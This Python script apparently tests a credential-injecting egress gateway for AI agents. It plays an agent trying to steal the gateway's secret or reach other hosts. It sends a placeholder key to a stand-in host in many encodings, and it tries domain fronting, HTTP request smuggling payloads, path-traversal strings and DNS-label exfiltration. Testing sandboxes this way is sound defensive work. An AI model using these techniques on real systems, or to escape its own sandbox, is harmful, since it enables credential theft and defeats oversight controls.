"""An agent that wants the secret which the gateway adds for `key.test/v1`, or a way to another host.
Prints what came of each attempt; the servers outside tell whom they heard."""
import base64, gzip, http.client, json, socket, ssl, sys, urllib.error, urllib.parse, urllib.request

HOLDER = "loki-placeholder-KEY"
trusting = ssl.create_default_context()


def say(host, raw, port=443):
    """Sends bytes as they are and returns all that comes back."""
    try:
        with socket.create_connection((host, port), timeout=30) as plain:
            stream = trusting.wrap_socket(plain, server_hostname=host) if port == 443 else plain
            for piece in raw if isinstance(raw, list) else [raw]:
                stream.sendall(piece)
            answer = b""
            while piece := stream.recv(65536):
                answer += piece
            return answer
    except OSError as fault:
        return str(fault).encode()


def head(method, path, host, *more, body=b""):
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close", f"Content-Length: {len(body)}", *more, "", ""]
    return "\r\n".join(lines).encode() + body


def status(answer):
    return answer.split(b" ")[1].decode() if answer.startswith(b"HTTP/") else "none"


answer = say("key.test", head("GET", "/v1/ok", "key.test", f"x-api-key: {HOLDER}"))
print("CONTROL", status(answer), answer.endswith(b"it is there\n"))

# S2: the placeholder in every dress, for another host and for another path of the same.
basic = base64.b64encode(f"agent:{HOLDER}".encode()).decode()
escaped = "".join(f"\\u{ord(letter):04x}" for letter in HOLDER)
dressed = {
    "header": head("GET", "/echo", "other.test", f"x-api-key: {HOLDER}"),
    "bearer": head("GET", "/echo", "other.test", f"Authorization: Bearer {HOLDER}"),
    "basic": head("GET", "/echo", "other.test", f"Authorization: Basic {basic}"),
    "cookie": head("GET", "/echo", "other.test", f"Cookie: key={HOLDER}"),
    "query": head("GET", f"/echo?key={HOLDER}", "other.test"),
    "quoted": head("GET", f"/echo?k={urllib.parse.quote(HOLDER).replace('-', '%2D')}", "other.test"),
    "json": head("POST", "/echo", "other.test", body=json.dumps({"key": HOLDER}).encode()),
    "escaped": head("POST", "/echo", "other.test", body=f'{{"key":"{escaped}"}}'.encode()),
    "hex": head("POST", "/echo", "other.test", body=HOLDER.encode().hex().encode()),
    "form": head("POST", "/echo", "other.test", body=urllib.parse.urlencode({"key": HOLDER}).encode()),
    "gzip": head("POST", "/echo", "other.test", "Content-Encoding: gzip", body=gzip.compress(HOLDER.encode())),
    "reversed": head("POST", "/echo", "other.test", body=HOLDER[::-1].encode()),
}
assert len(dressed) == 12
for name, request in dressed.items():
    print("DRESSED", name, status(say("other.test", request)))
split = head("POST", "/echo", "other.test", body=HOLDER.encode())
print("DRESSED split", status(say("other.test", [split[:-5], split[-5:]])))
print("PATH", status(say("key.test", head("GET", "/files/echo", "key.test", f"x-api-key: {HOLDER}"))))

# S3: nothing is added in the clear, nor after a redirect to another host.
answer = say("key.test", head("GET", "/v1/echo", "key.test", f"x-api-key: {HOLDER}"), 80)
print("CLEAR", status(answer), HOLDER.encode() in answer)
try:
    asked = urllib.request.Request("https://key.test/v1/away?https://other.test/echo", headers={"x-api-key": HOLDER})
    print("AWAY", urllib.request.urlopen(asked).url)
except urllib.error.HTTPError as refused:
    print("AWAY", refused.code, refused.url)

# S4: what the server sends back of it.
print("ECHO", say("key.test", head("GET", "/v1/echo", "key.test")).decode().replace("\r\n", " | "))

# N35: another key on the same host.
for line in ("x-api-key: mine-0123", "Authorization: Bearer mine-0123", "Cookie: mine-0123"):
    print("FOREIGN", status(say("key.test", head("GET", "/v1/echo", "key.test", line))))

# N12, N15: another host on an allowed connection.
for first in (
    "GET /v1/echo HTTP/1.1\r\nHost: other.test",
    "GET https://other.test/v1/echo HTTP/1.1\r\nHost: key.test",
    "GET /v1/echo HTTP/1.1\r\nHost: key.test\r\nHost: other.test",
    "CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443",
):
    print("FRONTED", status(say("key.test", f"{first}\r\n\r\n".encode())))
both = "GET /v1/ok HTTP/1.1\r\nHost: key.test\r\n\r\nGET /v1/second HTTP/1.1\r\nHost: other.test\r\n\r\n"
print("SECOND", say("key.test", both.encode()).count(b"HTTP/1.1 421 "))

# N16: what two readers read as two requests.
for fields in (
    "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
    "Content-Length: 0\r\nContent-Length: 44\r\n\r\n",
    "Content-Length : 44\r\n\r\n",
    "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "X: y\r\n\tTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "X: y\n\n",
):
    request = f"POST /v1/ok HTTP/1.1\r\nHost: key.test\r\n{fields}GET /v1/smuggled HTTP/1.1\r\nHost: key.test\r\n\r\n"
    print("SMUGGLED", status(say("key.test", request.encode())))

# N17: a path that escapes its rule.
for path in ("/v1/../files", "/v1/%2e%2e/files", "/v1//files", "/v1/..;/files", "/v1/%252e%252e/files", "//v1/files"):
    print("ESCAPED", status(say("key.test", head("GET", path, "key.test"))))

# N10: data in the labels under a wildcard.
refused = 0
for n in range(1000):
    try:
        socket.gethostbyname(f"x{n}.wild.test")
    except OSError:
        refused += 1
print("LABELS", refused > 100)
